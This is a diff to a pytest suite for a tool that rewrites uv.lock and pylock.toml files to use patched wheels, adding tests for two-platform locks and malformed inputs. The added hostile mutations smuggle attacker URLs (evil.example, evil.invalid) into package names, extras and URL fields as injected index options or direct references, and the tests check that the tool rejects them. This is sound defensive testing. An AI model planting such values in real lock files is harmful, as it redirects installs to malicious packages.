@@ -151,10 +151,20 @@ HOSTILE = {
         r'\1source = { url = "https://x.example/bar-2.0-py3-none-any.whl\\n--index-url=https://evil.example/simple" }\n'
         r'archive = { url = "https://x.example/bar-2.0.tar.gz\\n--index-url=https://evil.example/simple", hashes = { sha256 = "' + "0" * 64 + '" } }',
         text, 1),
+    # the same, spelled otherwise (the same project by PEP 503)
+    "listed-twice-spelled-otherwise": lambda text: text + re.sub(
+        r'name = "([^"]+)"', lambda m: f'name = "{m[1].upper()}"', text[text.index("[[package"):].split("\n\n")[0], 1) + "\n",
+    # a name or extra read from the TOML becomes the start of a requirement: "x@URL#" a direct reference
+    "name-smuggles-a-url": lambda text: text.replace('name = "bar"', 'name = "other@https://evil.invalid/x.whl#"'),
+    "extra-smuggles-a-url": lambda text: text.replace('extra = ["bar"]', 'extra = ["x]@https://evil.invalid/x.whl#"]'),
+    # packaging raises UndefinedComparison evaluating it (an edge marker; a pylock.toml package marker)
+    "marker-undefined-comparison": lambda text: text.replace("sys_platform == 'win32'", "python_version ~= '3'"),
 }
 
 
-HOSTILE_READ_BY_BOTH = {"hash-injects-an-option", "hash-short", "url-injects-an-option"}
+HOSTILE_READ_BY_BOTH = {"hash-injects-an-option", "hash-short", "url-injects-an-option", "name-smuggles-a-url",
+                        "marker-undefined-comparison", "listed-twice-spelled-otherwise"}  # fmt: skip
+HOSTILE_READ_BY_UV = {"extra-smuggles-a-url"}  # pylock.toml has no extras
 
 
 @pytest.mark.parametrize("fmt", ["uv-lock", "pylock"])
@@ -168,6 +178,7 @@ def test_hostile_toml_locks_are_one_error_line(world: dict, tmp_path: Path, fmt:
     result = run_cli("lock", flag, str(bad), "--index", str(world["index"]), "--out", str(tmp_path / "out.txt"))
     if result.returncode == 0:  # the mutation missed what this format reads: a result, then
         assert mutation not in HOSTILE_READ_BY_BOTH and (fmt, mutation) != ("pylock", "listed-twice")
+        assert fmt != "uv-lock" or mutation not in HOSTILE_READ_BY_UV
         assert (tmp_path / "out.txt").exists()
         return
     assert result.returncode == 1
@@ -322,3 +333,132 @@ def test_two_outputs_are_written_both_or_neither(world: dict, tmp_path: Path, se
     assert line.startswith(f"patched-wheels: error: --out-uv-lock {target}: ")
     assert not out.exists()
     assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]
+
+
+TWO_PLATFORMS = """[project]
+name = "proj"
+version = "0.1"
+requires-python = ">=3.11"
+dependencies = ["foo==1.0"]
+
+[tool.uv]
+environments = ["sys_platform == 'linux' and platform_machine == 'x86_64'", "sys_platform == 'linux' and platform_machine == 'aarch64'"]
+"""
+
+
+@pytest.fixture(scope="module")
+def two_platforms(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Path | str]]:
+    """foo 1.0 for x86_64 and aarch64 (each wheel says which it is), locked by the real uv for both
+    platforms; the index holds foo 1.0+s.1 patched for x86_64 only (the jax-cuda12-pjrt shape)."""
+    root = tmp_path_factory.mktemp("twoplatforms")
+    orig, index, project = root / "orig", root / "index", root / "project"
+    for directory in (orig, index, project):
+        directory.mkdir()
+    for machine in ("x86_64", "aarch64"):
+        build_wheel(orig, "foo", "1.0", {"foo/__init__.py": f"BUILT = {machine!r}\n".encode()},
+                    tag=f"py3-none-manylinux_2_17_{machine}", requires=["bar>=2"])  # fmt: skip
+    build_wheel(orig, "bar", "2.0", {"bar/__init__.py": b""})
+    build_index(orig)
+    build_wheel(index, "foo", "1.0+s.1", {"foo/__init__.py": b"BUILT = 'patched'\n"}, tag="py3-none-manylinux_2_17_x86_64", requires=["bar>=2"])
+    (project / "pyproject.toml").write_text(TWO_PLATFORMS)
+    with serve_over_http(orig) as base:
+        url = f"{base}/simple"
+        _uv("lock", "--default-index", url, "--python", sys.executable, cwd=project)
+        yield {"root": root, "orig": orig, "index": index, "project": project, "url": url}
+
+
+def _installs(requirements: Path, platform: str, find_links: Path) -> str:
+    """The foo the real uv installs from the requirements lock on ``platform`` (``==VERSION`` or `` @ URL``):
+    pip evaluates markers for the running machine only, uv for the platform it is given."""
+    result = _uv("pip", "install", "--dry-run", "--python-platform", platform, "--python-version", "3.11", "--no-index",
+                 "--find-links", str(find_links), "--target", str(requirements.parent / platform), "-r", str(requirements),
+                 cwd=requirements.parent)  # fmt: skip
+    (installed,) = re.findall(r"^ \+ foo(==\S+| @ \S+)$", result.stderr, re.MULTILINE)
+    return installed
+
+
+def test_a_uv_lock_for_two_platforms_keeps_the_other_platform_installable(two_platforms: dict, tmp_path: Path) -> None:
+    """The written uv.lock: uv sync --frozen installs the patched wheel here (x86_64); uv export --frozen
+    gives aarch64 the upstream wheel with its hash, which uv pip install takes for aarch64. The
+    requirements lock from the same uv.lock: pip takes the patched wheel on x86_64, upstream on aarch64."""
+    requirements, written = tmp_path / "requirements.txt", tmp_path / "uv.lock"
+    result = run_cli("lock", "--uv-lock", str(two_platforms["project"] / "uv.lock"), "--index", str(two_platforms["index"]),
+                     "--out", str(requirements), "--out-uv-lock", str(written))  # fmt: skip
+    assert result.returncode == 0, result.stderr
+    aarch64 = "foo-1.0-py3-none-manylinux_2_17_aarch64.whl"
+    assert aarch64 in written.read_text() and sha256_of(two_platforms["orig"] / aarch64) in written.read_text()
+
+    project = tmp_path / "project"
+    project.mkdir()
+    (project / "pyproject.toml").write_text(TWO_PLATFORMS)
+    (project / "uv.lock").write_text(written.read_text())
+    with serve_over_http(two_platforms["orig"]) as base:  # the lock's upstream URLs: the fixture's server, moved
+        (project / "uv.lock").write_text(written.read_text().replace(two_platforms["url"].removesuffix("/simple"), base))
+        _uv("sync", "--frozen", "--python", sys.executable, cwd=project)
+        site = next((project / ".venv" / "lib").glob("python*/site-packages"))
+        assert (site / "foo" / "__init__.py").read_text() == "BUILT = 'patched'\n"
+        exported = project / "exported.txt"
+        exported.write_text(_uv("export", "--frozen", "--no-header", cwd=project).stdout)
+        assert f"foo==1.0 ; " in exported.read_text() and sha256_of(two_platforms["orig"] / aarch64) in exported.read_text()
+        dry_run = _uv("pip", "install", "--dry-run", "--python-platform", "aarch64-manylinux_2_28", "--python-version", "3.11",
+                      "--target", str(project / "aarch64"), "--index-url", f"{base}/simple", "-r", str(exported), cwd=project)  # fmt: skip
+    assert "+ foo==1.0\n" in dry_run.stderr, dry_run.stderr
+
+    patched = "foo-1.0+s.1-py3-none-manylinux_2_17_x86_64.whl"
+    both = tmp_path / "wheels"
+    both.mkdir()
+    for wheel in (two_platforms["orig"] / aarch64, two_platforms["orig"] / "bar-2.0-py3-none-any.whl", two_platforms["index"] / patched):
+        (both / wheel.name).write_bytes(wheel.read_bytes())
+    assert _installs(requirements, "x86_64-manylinux_2_28", both).endswith(f"/{patched}")
+    assert _installs(requirements, "aarch64-manylinux_2_28", both) == "==1.0"  # --hash: the upstream aarch64 wheel
+
+
+def test_a_pylock_for_two_platforms_keeps_the_other_platform_installable(two_platforms: dict, tmp_path: Path) -> None:
+    pylock = tmp_path / "pylock.toml"
+    pylock.write_text(_uv("export", "--frozen", "--format", "pylock.toml", cwd=two_platforms["project"]).stdout)
+    requirements = tmp_path / "requirements.txt"
+    result = run_cli("lock", "--pylock", str(pylock), "--index", str(two_platforms["index"]), "--out", str(requirements))
+    assert result.returncode == 0, result.stderr
+    aarch64, patched = "foo-1.0-py3-none-manylinux_2_17_aarch64.whl", "foo-1.0+s.1-py3-none-manylinux_2_17_x86_64.whl"
+    both = tmp_path / "wheels"
+    both.mkdir()
+    for wheel in (two_platforms["orig"] / aarch64, two_platforms["orig"] / "bar-2.0-py3-none-any.whl", two_platforms["index"] / patched):
+        (both / wheel.name).write_bytes(wheel.read_bytes())
+    assert _installs(requirements, "x86_64-manylinux_2_28", both).endswith(f"/{patched}")
+    assert _installs(requirements, "aarch64-manylinux_2_28", both) == "==1.0"  # --hash: the upstream aarch64 wheel
+
+
+def test_the_uv_lock_writer_edits_keys_not_lines_that_look_like_them(world: dict, tmp_path: Path) -> None:
+    """A ``source =`` and a ``wheels =`` line inside a multi-line string of the patched package are
+    string, not keys: the string comes out as it was, the real source and wheels are ours."""
+    text = (world["project"] / "uv.lock").read_text()
+    string = '"""\nsource = { registry = "https://evil.invalid/simple" }\nwheels = [\n]\n"""'
+    source = tmp_path / "in.lock"
+    assert text.count("]\n\n[package.optional-dependencies]") == 1  # foo's: after its wheels, where uv's keys end
+    source.write_text(text.replace("]\n\n[package.optional-dependencies]", f"]\nnote = {string}\n\n[package.optional-dependencies]"))
+    written = tmp_path / "uv.lock"
+    result = run_cli("lock", "--uv-lock", str(source), "--index", str(world["index"]), "--out", str(tmp_path / "r.txt"),
+                     "--out-uv-lock", str(written))  # fmt: skip
+    assert result.returncode == 0, result.stderr
+    import tomllib
+
+    (foo,) = [p for p in tomllib.loads(written.read_text())["package"] if p["name"] == "foo"]
+    assert foo["note"] == tomllib.loads(f"x = {string}")["x"]
+    assert foo["source"] == {"registry": (world["index"] / "simple").as_uri()} and foo["version"] == "1.0+s.1"
+    assert [w["url"].rsplit("/", 1)[-1] for w in foo["wheels"]] == ["foo-1.0+s.1-py3-none-any.whl"]
+
+
+def test_a_workspace_member_in_the_index_is_refused(world: dict, tmp_path: Path) -> None:
+    """proj is the uv.lock's own project (a virtual source): a wheel of it in the index would be a second
+    [[package]] proj, so it is one error line and nothing is written."""
+    index = tmp_path / "index"
+    index.mkdir()
+    for wheel in world["index"].glob("*.whl"):
+        (index / wheel.name).write_bytes(wheel.read_bytes())
+    build_wheel(index, "proj", "0.1+s.1", {"proj/__init__.py": b""})
+    result = run_cli("lock", "--uv-lock", str(world["project"] / "uv.lock"), "--index", str(index), "--out", str(tmp_path / "r.txt"),
+                     "--out-uv-lock", str(tmp_path / "uv.lock"))  # fmt: skip
+    assert result.returncode == 1
+    (line,) = result.stderr.splitlines()
+    assert line.startswith(f"patched-wheels: error: {world['project'] / 'uv.lock'}: proj is a workspace member"), line
+    assert not (tmp_path / "r.txt").exists() and not (tmp_path / "uv.lock").exists()
